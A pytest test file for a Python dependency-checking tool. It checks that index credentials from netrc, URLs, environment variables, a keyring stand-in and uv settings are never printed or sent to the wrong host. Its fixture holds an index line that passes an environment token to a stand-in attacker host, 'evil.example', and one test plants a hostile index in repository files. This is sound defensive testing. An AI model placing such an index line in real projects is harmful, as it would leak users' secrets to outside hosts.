"""A secret in netrc, an index's address, the environment or a keyring is sent to its own index and shown nowhere."""

from __future__ import annotations

import base64
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from repositories import initialised
from simple_server import Handler, Page, Server, file, page, project
from whypin.commands.main import main
from whypin.reports import FORMATS

A = "a" * 64
SECRETS = ("netrc-hunter2", "url-hunter2", "environment-hunter2", "keyring-hunter2", "uv-hunter2", "broken-hunter2")
LOCK = f"""\
--extra-index-url https://${{TOKEN}}@evil.example/simple/
six==1.16.0 --hash=sha256:{A}
seven==1 --hash=sha256:{A}
eight==1 --hash=sha256:{A}
"""


@pytest.fixture
def server() -> Iterator[Server]:
    with Server() as running:
        yield running


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository on a machine with a netrc and nothing else set."""
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
    monkeypatch.setenv("WHYPIN_CACHE_DIR", str(tmp_path / "cache"))
    (tmp_path / "netrc").write_text("machine 127.0.0.1 login me password netrc-hunter2\n")
    # Some tests name a configuration of uv.
    monkeypatch.delenv("UV_NO_CONFIG")
    monkeypatch.setenv("UV_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("TOKEN", "environment-hunter2")
    folder = tmp_path / "repository"
    initialised(folder)
    (folder / "requirements.txt").write_text(LOCK)
    monkeypatch.chdir(folder)
    return folder


def guarded(secret: str, served: Page) -> Page:
    wanted = "Basic " + base64.b64encode(f"me:{secret}".encode()).decode()

    def answer(handler: Handler) -> None:
        if handler.headers.get("Authorization") == wanted:
            served(handler)
        else:
            handler.reply(401, b"", "text/plain")

    return answer


def everything(
    machine: Path, capsys: pytest.CaptureFixture[str], formats: tuple[str, ...] = FORMATS
) -> tuple[str, int]:
    """All that a run shows and keeps in every format, and its status."""
    pieces = []
    status = 0
    for format in formats:
        status = main(["check", "--online", "--format", format])
        shown = capsys.readouterr()
        pieces += [shown.out, shown.err]
    for path in machine.parent.rglob("*"):
        if path.is_file() and path.name != "netrc":
            pieces += [str(path), path.read_text(errors="replace")]
    return "\n".join(pieces), status


def keyring(folder: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """Put a command in a folder of PATH that says what a keyring would say."""
    if os.name == "nt":
        pytest.skip("the stand-in is a script of a POSIX shell")
    (folder / "keyring").write_text(f"#!{sys.executable}\nimport sys\n{text}\n")
    (folder / "keyring").chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("PIP_KEYRING_PROVIDER", "subprocess")


KNOWS = """\
print("a warning about keyring-hunter2", file=sys.stderr)
print("keyring-hunter2" if sys.argv[1] == "get" else "me\\nkeyring-hunter2")
"""


def put(place: str, url: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Name an index to the machine, with a login that stands at a place; the password."""
    monkeypatch.setenv("PIP_INDEX_URL", url)
    if place != "netrc":
        monkeypatch.setenv("NETRC", os.devnull)
    if place == "url":
        monkeypatch.setenv("PIP_INDEX_URL", url.replace("//", "//me:url-hunter2@"))
    elif place.startswith("keyring"):
        keyring(folder, monkeypatch, KNOWS)
        if place.endswith("user"):
            monkeypatch.setenv("PIP_INDEX_URL", url.replace("//", "//me@"))
    elif place.startswith("uv"):
        monkeypatch.delenv("PIP_INDEX_URL")
        monkeypatch.setenv("UV_INDEX_OURS_USERNAME", "me")
        monkeypatch.setenv("UV_INDEX_OURS_PASSWORD", "uv-hunter2")
        if place.endswith("configuration"):
            (folder / "uv.toml").write_text(f'[[index]]\nname = "ours"\nurl = "{url}"\ndefault = true\n')
            monkeypatch.setenv("UV_CONFIG_FILE", str(folder / "uv.toml"))
        else:
            monkeypatch.setenv("UV_DEFAULT_INDEX", f"ours={url}")
    return f"{place.partition(' ')[0]}-hunter2"


PLACES = ["netrc", "url", "keyring", "keyring with user", "uv", "uv configuration"]


@pytest.mark.parametrize("place", PLACES)
def test_credentials_open_the_index_and_are_shown_nowhere(
    server: Server,
    machine: Path,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    place: str,
) -> None:
    with Server() as other:
        six = project("six", [file("six-1.16.0.tar.gz", A)])
        secret = put(place, server.url, tmp_path_factory.mktemp("person"), monkeypatch)
        server.add("six", guarded(secret, page(six)))
        # One that leads to another host, one that fails.
        away = f"http://localhost:{other.port}/simple/seven/"
        server.add("seven", guarded(secret, lambda handler: handler.reply(302, b"", "text/plain", Location=away)))
        server.add("eight", guarded(secret, lambda handler: handler.reply(403, b"", "text/plain")))
        text, status = everything(machine, capsys)
        assert status == 3
        assert "refuses the credentials (403)" in text
        assert (machine.parent / "cache").is_dir()
        assert [secret for secret in SECRETS if secret in text] == []
        assert "environment-hunter2" not in repr([*server.seen, *other.seen])
        assert other.seen
        assert not any("authorization" in fields for _, fields in other.seen)


@pytest.mark.parametrize("place", PLACES)
def test_credentials_that_are_wrong_are_shown_nowhere(
    server: Server,
    machine: Path,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    place: str,
) -> None:
    server.add("six", guarded("another", page(b"")))
    put(place, server.url, tmp_path_factory.mktemp("person"), monkeypatch)
    text, status = everything(machine, capsys, ("text", "json"))
    assert status == 3
    assert "refuses the credentials (401)" in text
    assert [secret for secret in SECRETS if secret in text] == []


def test_a_keyring_that_breaks_is_said_without_its_secrets(
    server: Server,
    machine: Path,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    server.add("six", guarded("another", page(b"")))
    put("", server.url, tmp_path_factory.mktemp("person"), monkeypatch)
    keyring(tmp_path_factory.mktemp("person"), monkeypatch, "print('broken-hunter2'); raise OSError('broken-hunter2')")
    text, status = everything(machine, capfd)
    assert status == 3
    assert "asks for credentials (401), and the keyring cannot be read" in text
    assert "Traceback" not in text
    assert [secret for secret in SECRETS if secret in text] == []


def test_a_name_that_only_the_repository_gives_an_address_opens_nothing(
    server: Server, machine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with Server() as evil:
        server.add("six", page(project("six", [file("six-1.16.0.tar.gz", A)])))
        put("uv", server.url, machine, monkeypatch)
        # The person's own index by another name, and theirs by the name that has a password.
        monkeypatch.setenv("UV_DEFAULT_INDEX", f"other={server.url}")
        table = f'name = "ours"\nurl = "{evil.url}"\n'
        (machine / "pyproject.toml").write_text(f"[[tool.uv.index]]\n{table}[[tool.poetry.source]]\n{table}")
        (machine / "uv.toml").write_text(f"[[index]]\n{table}")
        (machine / "requirements.txt").write_text(f"--index-url {evil.url}\n{LOCK}")
        text, _ = everything(machine, capsys, ("text",))
        assert evil.seen == []
        # Nor when the person lets the host be asked.
        monkeypatch.setenv("WHYPIN_ALLOW_HOSTS", "127.0.0.1")
        text += everything(machine, capsys, ("text",))[0]
        assert evil.seen
        assert not any("authorization" in fields for _, fields in (*server.seen, *evil.seen))
        assert [secret for secret in SECRETS if secret in text] == []


@pytest.mark.parametrize(
    "url",
    [
        "http://me:url-hunter2@127.0.0.1:9/simple/",
        "http://me:url-hunter2@pip.example/simple/",
        "https://me:url-hunter2@127.0.0.1:9/simple/",
        "https://me:url-hunter2@[/simple/",
        "https://me:url-hunter2@127.0.0.1:port/simple/",
        "me:url-hunter2@pip.example/simple/",
    ],
)
def test_an_index_that_cannot_be_asked_is_shown_without_its_secret(
    machine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", url)
    text, status = everything(machine, capsys, ("text", "json"))
    assert status == 3
    assert "was not checked" in text
    assert [secret for secret in SECRETS if secret in text] == []
